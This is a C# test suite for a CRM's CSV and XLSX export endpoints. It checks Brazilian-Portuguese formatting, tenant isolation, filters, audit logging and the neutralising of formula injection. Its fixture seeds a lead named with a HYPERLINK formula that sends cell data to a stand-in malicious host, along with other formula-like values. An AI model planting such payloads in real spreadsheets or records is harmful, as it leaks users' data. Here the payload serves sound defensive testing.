using System.Globalization;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Sylvan.Data.Csv;

namespace WorkshopCrm.Modules.Pipeline.Tests;

/// <summary>
/// One company's leads, deals and activities, with text a spreadsheet would run as a formula, a negative value and
/// accents; a salesperson with deals of its own; and a stranger company whose rows must never show.
/// </summary>
public sealed class ExportsFixture : CrmAppFixture
{
    public const string Hyperlink = "=HYPERLINK(\"http://mal.example/?\"&A1,\"Clique aqui\")";

    public Account Owner { get; private set; } = null!;
    public Account Seller { get; private set; } = null!;

    protected override async Task SeedAsync()
    {
        Owner = await this.ACompanyAsync();
        Seller = await this.AColleagueAsync(Owner, name: "Sam Vendas");
        var lia = await Owner.ALeadAsync("Lia Gonçalves", "lia@exemplo.com.br", "+55 71 98765-4321");
        var trap = await Owner.ALeadAsync(Hyperlink, "armadilha@exemplo.com.br");
        var bia = await Owner.ALeadAsync("Bia Parceira", "bia@exemplo.com.br");
        var caio = await Seller.ALeadAsync("Caio Cliente", "caio@exemplo.com.br");

        var revision = await Owner.ADealAsync(lia.Id, "Revisão completa", 1500.50m);
        await Owner.ADealAsync(trap.Id, "+1", 10m);
        await Owner.ADealAsync(lia.Id, "-1+1", 20m);
        var refund = await Owner.ADealAsync(lia.Id, "@SUM(A1:A9)", 30m);
        var lost = await Owner.ADealAsync(lia.Id, "Pintura", 700m);
        await Owner.MoveAsync(lost.Id, 7, lossReason: "Preço alto").ReadAsync<CardBody>();
        await Seller.ADealAsync(caio.Id, "Troca de óleo", 250m);
        await Owner.ADealAsync(bia.Id, "Funilaria", 900m, ownerId: Seller.UserId);
        // A refund: a negative value is a number, never text to neutralise.
        await ExecuteAsync("UPDATE pipeline.deals SET value = -10.50 WHERE id = @p0", refund.Id);

        await Owner.AnActivityAsync(dealId: revision.Id, subject: "Ligar às 14h", dueTime: "14:30");
        var done = await Seller.AnActivityAsync(leadId: caio.Id, subject: "Enviar orçamento", dueDate: PipelineGiven.SaoPauloToday().AddDays(-2));
        await Seller.SendAsync(HttpMethod.Post, $"/api/activities/{done.Id}/complete", new { outcome = "-Aprovado" }).ReadAsync<ActivityBody>();

        var stranger = await this.ACompanyAsync();
        var theirs = await stranger.ALeadAsync("Estranho Secreto", "estranho@outra.example");
        await stranger.ADealAsync(theirs.Id, "Negócio Estranho", 99_999m);
        await stranger.AnActivityAsync(leadId: theirs.Id, subject: "Atividade Estranha");
    }
}

public sealed class Exports(ExportsFixture app) : IClassFixture<ExportsFixture>
{
    [Fact]
    public async Task A_csv_export_opens_in_excel_in_portuguese_with_bom_semicolons_decimal_comma_and_accents()
    {
        var response = await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/deals?format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"attachment; filename=\"deals-{PipelineGiven.SaoPauloToday():yyyy-MM-dd}.csv\"", response.Content.Headers.ContentDisposition?.ToString());
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.Contains("\r\n", Encoding.UTF8.GetString(bytes));
        var (header, rows) = Csv(bytes);
        Assert.Equal(["Título", "Lead", "E-mail do lead", "Etapa", "Valor (R$)", "Responsável", "Situação", "Motivo da perda", "Criado em", "Atualizado em"], header);
        var revision = rows.Single(r => r["Título"] == "Revisão completa");
        Assert.Equal(("Lia Gonçalves", "lia@exemplo.com.br", "Novo lead", "1500,50", "Maria Souza", "Aberto"),
            (revision["Lead"], revision["E-mail do lead"], revision["Etapa"], revision["Valor (R$)"], revision["Responsável"], revision["Situação"]));
        Assert.Matches(@"^\d{2}/\d{2}/\d{4} \d{2}:\d{2}$", revision["Criado em"]);
        var lost = rows.Single(r => r["Título"] == "Pintura");
        Assert.Equal(("Perdido", "Perdido", "Preço alto"), (lost["Etapa"], lost["Situação"], lost["Motivo da perda"]));
    }

    [Fact]
    public async Task An_xlsx_export_opens_with_numbers_as_numbers_and_dates_as_dates()
    {
        var response = await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/deals?format=xlsx");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        Assert.EndsWith(".xlsx\"", response.Content.Headers.ContentDisposition?.ToString());
        using var sheet = Xlsx.Open(await response.Content.ReadAsByteArrayAsync());
        Assert.Equal("Negócios", sheet.Name);
        Assert.Equal("Título", sheet.Text(0, 0));
        var row = sheet.RowWhere(0, "Revisão completa");
        Assert.Equal(1500.50, sheet.Number(row, 4));
        Assert.Equal("#,##0.00", sheet.Format(row, 4));
        Assert.Equal("dd/mm/yyyy hh:mm", sheet.Format(row, 8));
        var created = DateTime.FromOADate(sheet.Number(row, 8));
        Assert.InRange(created, DateTime.UtcNow.AddHours(-4), DateTime.UtcNow.AddHours(-2)); // São Paulo's clock, UTC-3
    }

    [Fact]
    public async Task Text_that_starts_like_a_formula_is_neutralised_and_a_negative_value_stays_a_number()
    {
        var csv = Csv(await (await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/deals")).Content.ReadAsByteArrayAsync()).Rows;
        using var xlsx = Xlsx.Open(await (await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/deals?format=xlsx")).Content.ReadAsByteArrayAsync());

        Assert.Equal("'" + ExportsFixture.Hyperlink, csv.Single(r => r["Título"] == "'+1")["Lead"]);
        Assert.Contains(csv, r => r["Título"] == "'-1+1");
        Assert.Equal("-10,50", csv.Single(r => r["Título"] == "'@SUM(A1:A9)")["Valor (R$)"]);
        Assert.Equal(ExportsFixture.Hyperlink, xlsx.Text(xlsx.RowWhere(0, "+1"), 1));
        Assert.Equal(-10.50, xlsx.Number(xlsx.RowWhere(0, "@SUM(A1:A9)"), 4));
        Assert.True(xlsx.HasNoFormula, "A text cell became a formula.");
        var activities = Csv(await (await app.Seller.SendAsync(HttpMethod.Get, "/api/exports/activities?scope=done")).Content.ReadAsByteArrayAsync()).Rows;
        Assert.Equal("'-Aprovado", Assert.Single(activities)["Resultado"]);
    }

    [Fact]
    public async Task A_salesperson_exports_only_its_own_deals_and_the_leads_it_can_see()
    {
        var deals = Csv(await (await app.Seller.SendAsync(HttpMethod.Get, "/api/exports/deals?ownerId=" + app.Owner.UserId)).Content.ReadAsByteArrayAsync()).Rows;
        var leads = Csv(await (await app.Seller.SendAsync(HttpMethod.Get, "/api/exports/leads")).Content.ReadAsByteArrayAsync()).Rows;

        Assert.Equal(["Troca de óleo", "Funilaria"], deals.Select(d => d["Título"]).Order(StringComparer.Ordinal).Reverse());
        Assert.All(deals, d => Assert.Equal("Sam Vendas", d["Responsável"]));
        Assert.Equal(["Bia Parceira", "Caio Cliente"], leads.Select(l => l["Nome"]));
    }

    [Fact]
    public async Task The_export_takes_the_filters_of_its_list()
    {
        var sellers = Csv(await (await app.Owner.SendAsync(HttpMethod.Get, $"/api/exports/deals?ownerId={app.Seller.UserId}")).Content.ReadAsByteArrayAsync()).Rows;
        var searched = Csv(await (await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/deals?search=goncalves")).Content.ReadAsByteArrayAsync()).Rows;
        var leads = Csv(await (await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/leads?search=LIA")).Content.ReadAsByteArrayAsync()).Rows;
        var today = Csv(await (await app.Owner.SendAsync(HttpMethod.Get, "/api/exports/activities?scope=today")).Content.ReadAsByteArrayAsync()).Rows;

        Assert.Equal(2, sellers.Count);
        Assert.Equal(4, searched.Count);
        Assert.All(searched, d => Assert.Equal("Lia Gonçalves", d["Lead"]));
        Assert.Equal(("Lia Gonçalves", "+55 71 98765-4321"), (Assert.Single(leads)["Nome"], leads[0]["Telefone"].TrimStart('\'')));
        var call = Assert.Single(today);
        Assert.Equal(("Ligação", "Ligar às 14h", "14:30", "Revisão completa", "Lia Gonçalves"), (call["Tipo"], call["Assunto"], call["Hora"], call["Negócio"], call["Lead"]));
        Assert.Equal(PipelineGiven.SaoPauloToday().ToString("dd/MM/yyyy", CultureInfo.InvariantCulture), call["Data"]);
    }

    [Fact]
    public async Task Another_companys_rows_never_appear()
    {
        foreach (var kind in new[] { "leads", "deals", "activities" })
        {
            var text = Encoding.UTF8.GetString(await (await app.Owner.SendAsync(HttpMethod.Get, $"/api/exports/{kind}")).Content.ReadAsByteArrayAsync());

            Assert.DoesNotContain("Estranh", text);
            Assert.Contains("Lia Gonçalves", text);
        }
    }

    [Fact]
    public async Task Headers_follow_the_callers_language()
    {
        var request = app.Owner.Request(HttpMethod.Get, "/api/exports/activities");
        request.Headers.AcceptLanguage.ParseAdd("en-US,en;q=0.9");

        var (header, rows) = Csv(await (await app.Owner.Client.SendAsync(request)).Content.ReadAsByteArrayAsync());

        Assert.Equal(["Type", "Subject", "Due date", "Time", "Lead", "Deal", "Owner", "Done at", "Outcome"], header);
        Assert.Contains(rows, r => r["Type"] == "Call");
    }

    [Theory]
    [InlineData("/api/exports/deals?format=pdf", "format")]
    [InlineData("/api/exports/leads?format=XLS", "format")]
    [InlineData("/api/exports/activities?scope=soon", "scope")]
    [InlineData("/api/exports/activities?from=2026-10-10&to=2026-10-01", "to")]
    [InlineData("/api/exports/leads?search=a%07b", "search")]
    [InlineData("/api/exports/deals?ownerId=abc", "ownerId")]
    public async Task A_bad_format_or_filter_is_a_400_naming_the_field(string url, string field)
    {
        var problem = await Problem.ReadAsync(await app.Owner.SendAsync(HttpMethod.Get, url));

        Assert.Equal(400, problem.Status);
        Assert.Contains(field, problem.Errors.Keys);
    }

    [Fact]
    public async Task Each_export_is_on_record_for_the_companys_audit_log()
    {
        await app.Owner.SendAsync(HttpMethod.Get, $"/api/exports/deals?format=xlsx&ownerId={app.Seller.UserId}&search=secreto");

        var subjects = await app.ScalarAsync<string>(
            "SELECT string_agg(payload->>'subject', ' | ') FROM pipeline.outbox_messages WHERE type LIKE 'WorkshopCrm.Contracts.Identity.AuditRecorded,%' " +
            "AND (payload->>'tenantId')::bigint = @p0 AND (payload->>'userId')::bigint = @p1 AND payload->>'action' = 'export'",
            app.Owner.TenantId, app.Owner.UserId);
        Assert.Contains($"deals, xlsx, ownerId={app.Seller.UserId}, search", subjects);
        Assert.DoesNotContain("secreto", subjects);
    }

    private static (List<string> Header, List<Dictionary<string, string>> Rows) Csv(byte[] bytes)
    {
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        using var csv = CsvDataReader.Create(new StringReader(Encoding.UTF8.GetString(bytes[3..])), new CsvDataReaderOptions { Delimiter = ';' });
        var header = Enumerable.Range(0, csv.FieldCount).Select(csv.GetName).ToList();
        var rows = new List<Dictionary<string, string>>();
        while (csv.Read())
            rows.Add(header.Select((name, i) => (name, i)).ToDictionary(c => c.name, c => csv.GetString(c.i)));
        return (header, rows);
    }

    /// <summary>The first sheet of a workbook as Excel reads it (Open XML SDK): cell types, values and number formats.</summary>
    private sealed class Xlsx : IDisposable
    {
        private readonly SpreadsheetDocument _document;
        private readonly List<List<Cell>> _rows;
        private readonly WorkbookStylesPart? _styles;

        private Xlsx(SpreadsheetDocument document)
        {
            _document = document;
            var workbook = document.WorkbookPart!;
            Name = workbook.Workbook.Sheets!.Elements<Sheet>().First().Name!.Value!;
            _styles = workbook.WorkbookStylesPart;
            _rows = workbook.WorksheetParts.First().Worksheet.Descendants<Row>().Select(r => r.Elements<Cell>().ToList()).ToList();
        }

        public string Name { get; }

        public bool HasNoFormula => _rows.SelectMany(r => r).All(c => c.CellFormula is null);

        public static Xlsx Open(byte[] bytes) => new(SpreadsheetDocument.Open(new MemoryStream(bytes), isEditable: false));

        public int RowWhere(int column, string text) => _rows.FindIndex(r => r.Count > column && IsText(r[column]) && TextOf(r[column]) == text);

        public string Text(int row, int column)
        {
            var cell = _rows[row][column];
            Assert.True(IsText(cell), $"Cell {cell.CellReference} is not text.");
            return TextOf(cell);
        }

        public double Number(int row, int column)
        {
            var cell = _rows[row][column];
            Assert.True(cell.DataType is null || cell.DataType.Value == CellValues.Number, $"Cell {cell.CellReference} is not a number.");
            return double.Parse(cell.CellValue!.Text, CultureInfo.InvariantCulture);
        }

        public string? Format(int row, int column)
        {
            var format = (CellFormat)_styles!.Stylesheet.CellFormats!.ElementAt((int)_rows[row][column].StyleIndex!.Value);
            return _styles.Stylesheet.NumberingFormats?.Elements<NumberingFormat>()
                .FirstOrDefault(n => n.NumberFormatId!.Value == format.NumberFormatId!.Value)?.FormatCode?.Value;
        }

        public void Dispose() => _document.Dispose();

        private static bool IsText(Cell cell) =>
            cell.DataType is not null && (cell.DataType.Value == CellValues.InlineString || cell.DataType.Value == CellValues.String);

        private static string TextOf(Cell cell) => cell.InlineString?.InnerText ?? cell.CellValue?.Text ?? "";
    }
}
